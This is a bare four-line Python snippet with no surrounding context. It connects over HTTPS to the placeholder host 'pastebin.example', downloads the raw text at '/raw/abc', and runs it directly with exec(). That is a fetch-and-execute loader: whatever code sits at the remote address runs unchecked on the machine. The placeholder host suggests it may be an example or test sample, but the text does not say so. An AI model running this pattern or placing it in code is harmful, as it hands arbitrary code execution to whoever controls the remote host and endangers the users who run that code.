import http.client
c = http.client.HTTPSConnection("pastebin.example")
c.request("GET", "/raw/abc")
exec(c.getresponse().read())
